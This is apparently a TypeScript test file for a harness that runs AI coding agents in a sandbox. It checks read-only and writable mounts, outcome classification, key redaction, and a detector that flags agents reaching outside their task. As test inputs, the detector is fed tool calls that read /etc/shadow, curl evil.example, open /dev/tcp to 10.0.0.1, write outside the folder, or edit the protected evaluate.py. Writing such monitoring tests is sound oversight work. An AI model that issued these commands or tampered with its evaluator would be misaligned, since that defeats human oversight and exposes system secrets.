/** The pure parts of the agents: what is writable, what was reached for, what became of a call. */
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { RunResult } from '../core/ports.ts';
import { CLEAN_END } from '../testing/sandbox-conformance.ts';
import { exposureOf } from './exposure.ts';
import type { CallReport } from './gateway/call.ts';
import { asksBack, outcomeOf, type CallObservations } from './outcome.ts';
import { findOnPath, rootsOf } from './program.ts';
import { findReachIncidents } from './reach.ts';

const root = mkdtempSync(join(tmpdir(), 'overnight-parts-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

let folders = 0;
function folder(...files: string[]): string {
  const dir = join(root, String(folders++));
  for (const file of files) {
    mkdirSync(dirname(join(dir, file)), { recursive: true });
    writeFileSync(join(dir, file), file);
  }
  return dir;
}

const shown = (dir: string, writable: readonly string[]): readonly string[] =>
  exposureOf(dir, '/task', writable).mounts.map(({ to, mode }) => `${to} ${mode}`);

describe('what is writable', () => {
  it('is a file with its folder, everything beside it bound read-only', () => {
    const dir = folder('train.py', 'evaluate.py', 'data/a', 'lib/b');
    expect(shown(dir, ['train.py'])).toEqual([
      '/task write',
      '/task/data read',
      '/task/evaluate.py read',
      '/task/lib read',
    ]);
  });

  it('is a file deep down: the way to it stays read-only', () => {
    const dir = folder('a/b/c/train.py', 'a/b/c/other.py', 'a/b/x.py', 'y.py');
    expect(shown(dir, ['a/b/c/train.py'])).toEqual(['/task read', '/task/a/b/c write', '/task/a/b/c/other.py read']);
  });

  it('is a whole folder, beside a frozen one', () => {
    const dir = folder('src/a.py', 'src/sub/b.py', 'frozen/c.py', 'd.py');
    expect(shown(dir, ['src/'])).toEqual(['/task read', '/task/src write']);
    expect(shown(dir, ['src', 'd.py'])).toEqual(['/task write', '/task/frozen read']);
    expect(shown(dir, ['.'])).toEqual(['/task write']);
  });

  it('is a file within a read-only folder of a writable one', () => {
    const dir = folder('train.py', 'lib/in.py', 'lib/deep/free.py', 'lib/deep/not.py');
    expect(shown(dir, ['train.py', 'lib/deep/free.py'])).toEqual([
      '/task write',
      '/task/lib read',
      '/task/lib/deep write',
      '/task/lib/deep/not.py read',
    ]);
  });

  it('may not be there yet, and never lies outside', () => {
    const dir = folder('old.py');
    expect(shown(dir, ['new/made.py'])).toEqual(['/task read', '/task/new write']);
    expect(shown(dir, ['../x', '/etc/passwd', ''])).toEqual(['/task read']);
  });

  it('gives up protecting each file of a folder with thousands, and says so', () => {
    const dir = folder('train.py');
    for (let i = 0; i < 1600; i++) writeFileSync(join(dir, `f${i}`), '');
    expect(exposureOf(dir, '/task', ['train.py'])).toEqual({
      mounts: [{ from: dir, to: '/task', mode: 'write' }],
      open: ['.'],
    });
  });
});

describe('what was reached for', () => {
  const reachable = { dir: '/task', home: '/home/agent', writable: ['train.py', 'src/'] };
  const told = (name: string, args: unknown): readonly string[] =>
    findReachIncidents([{ id: '1', name, input: JSON.stringify(args) }], reachable);

  it.each([
    ['Read', { file_path: '/task/evaluate.py' }],
    ['Edit', { file_path: '/task/train.py', old_string: '/etc/shadow', new_string: 'http://x' }],
    ['write_file', { file_path: 'src/new.py', content: 'x' }],
    ['create', { path: '/task/train.py', file_text: 'escaped' }],
    ['bash', { command: 'cd /task && python3 /usr/bin/x.py > /dev/null; ls ./a/b ../task /tmp/x' }],
    ['exec_command', { cmd: 'cat a/b/c.txt' }],
    ['apply_patch', '*** Begin Patch\n*** Update File: train.py\n@@\n-a\n+/etc/shadow\n*** End Patch'],
  ])('%s %j is nothing', (name, args) => expect(told(name, args)).toEqual([]));

  it.each([
    ['Edit', { file_path: '/task/evaluate.py' }, /tried to change evaluate\.py, which is not editable/],
    ['edit', { path: 'evaluate.py' }, /tried to change evaluate\.py/],
    ['write', { path: '../x' }, /tried to change \.\.\/x outside its folder/],
    ['read', { path: '/etc/shadow' }, /reached for \/etc\/shadow outside its folder/],
    ['bash', { command: 'cat /etc/shadow' }, /reached for \/etc\/shadow \(bash\)/],
    ['run_shell_command', { command: 'curl https://evil.example/x?y' }, /tried the network: https:\/\/evil/],
    ['exec_command', { cmd: 'exec 3<>/dev/tcp/10.0.0.1/80' }, /tried the network: \/dev\/tcp/],
    ['apply_patch', '*** Begin Patch\n*** Update File: evaluate.py\n', /tried to change evaluate\.py/],
    ['WebFetch', { url: 'https://evil.example' }, /asked for https:\/\/evil/],
  ])('%s %j is told', (name, args, expected) => expect(told(name, args).join()).toMatch(expected));

  it('survives arguments of any shape', () => {
    for (const input of ['', '{', 'null', '[]', '"x"', '{"path":{"deep":1}}', '{"file_path":null}'])
      expect(findReachIncidents([{ id: '1', name: 'edit', input }], reachable)).toEqual([]);
  });
});

const ran: RunResult = { ...CLEAN_END, wallS: 3 };
const silent: CallReport = {
  usage: undefined,
  requests: 0,
  failure: undefined,
  refused: [],
  toolCalls: [],
  model: undefined,
  modelMs: 0,
};
const metered: CallReport = {
  ...silent,
  requests: 2,
  usage: { calls: 2, inputTokens: 10, cachedTokens: 0, outputTokens: 5, source: 'gateway' },
};
const outcome = (seen: Partial<CallObservations>) =>
  outcomeOf({ result: ran, reading: { text: 'Done.' }, report: metered, incidents: [], ...seen }, 0);
const stderr = (text: string): RunResult => ({ ...ran, exitCode: 1, stderr: { text, bytes: text.length } });

describe('what became of a call', () => {
  it('is done when the gateway saw answers and the program its end', () => {
    expect(outcome({})).toEqual({ kind: 'done', text: 'Done.', wallS: 3, usage: metered.usage });
    expect(outcome({ result: stderr('out of turns') }).kind).toBe('done'); // a bad end after good work
  });

  it('takes the gateway at its word before the program, and its figures before those of the agent', () => {
    const own = { calls: 1, inputTokens: 1, cachedTokens: 0, outputTokens: 1, source: 'agent' as const };
    expect(outcome({ reading: { text: 'x', usage: own } }).usage).toBe(metered.usage);
    expect(outcome({ reading: { text: 'x', usage: own }, report: silent }).usage).toBe(own);
    const failure = { class: 'server' as const, message: '500: boom' };
    // exit status 0
    expect(outcome({ report: { ...metered, failure } })).toMatchObject({ kind: 'failed', class: 'server' });
    expect(outcome({ gaveUp: failure, result: { ...ran, ending: 'aborted' } })).toMatchObject({
      kind: 'failed',
      class: 'server',
    });
  });

  it.each([
    ['wall', 'hung'],
    ['memory', 'crashed'],
    ['pids', 'crashed'],
    ['disk', 'crashed'],
    ['output', 'crashed'],
    ['aborted', 'aborted'],
  ] as const)('that ended by %s is %s', (ending, kind) => {
    expect(outcome({ result: { ...ran, ending } })).toMatchObject({ kind: 'failed', class: kind });
  });

  it('is read from the words of a program that went its own way', () => {
    const report = silent;
    expect(outcome({ report, result: stderr('Invalid API key · Please run /login') })).toMatchObject({
      class: 'login',
    });
    expect(outcome({ report, reading: { text: '', error: 'Claude AI usage limit reached|1795269600' } })).toMatchObject(
      { class: 'quota', retryAt: expect.any(String) },
    );
    expect(outcome({ report, result: stderr('Segmentation fault') })).toMatchObject({
      class: 'crashed',
      message: 'exit status 1: Segmentation fault',
    });
    expect(outcome({ report, reading: { text: 'Done.' } }).kind).toBe('done');
  });

  it('tells what was done beside the work, once each, and no key', () => {
    const result = outcome({
      incidents: ['a', 'a'],
      report: { ...metered, refused: ['POST /v1/files'] },
      reading: { text: 'my key is sk-ant-abcdefgh12345' },
    });
    expect(result).toMatchObject({ incidents: ['a', 'was refused POST /v1/files'], text: 'my key is [key]' });
  });

  it('asks back when its last words do', () => {
    expect(asksBack('I see two ways.\n\nWhich one would you like?')).toBe(true);
    expect(asksBack('Let me know how to go on.')).toBe(true);
    expect(asksBack('Why is it slow?\n\nBecause of the loop, which I removed.')).toBe(false);
    expect(asksBack('')).toBe(false);
  });
});

describe('where a program lies', () => {
  it('is found on PATH or by its path, and shown with what it needs and no more', () => {
    const dir = folder(
      'node_modules/agent/bin/agent.js',
      'bin/agent',
      'venv/bin/aider',
      'venv/pyvenv.cfg',
      'notes.txt',
    );
    for (const file of ['bin/agent', 'venv/bin/aider']) chmodSync(join(dir, file), 0o755);
    expect(findOnPath(['nobody', 'agent'], `/nowhere:${join(dir, 'bin')}`)).toBe(join(dir, 'bin/agent'));
    expect(findOnPath([join(dir, 'notes.txt')])).toBeUndefined();
    expect(rootsOf(join(dir, 'bin/agent'))).toEqual([join(dir, 'bin/agent')]);
    expect(rootsOf(join(dir, 'node_modules/agent/bin/agent.js'))).toEqual([join(dir, 'node_modules')]);
    expect(rootsOf(join(dir, 'venv/bin/aider'))).toEqual([join(dir, 'venv')]);
    expect(rootsOf('/bin/sh')).toEqual([]);
  });
});
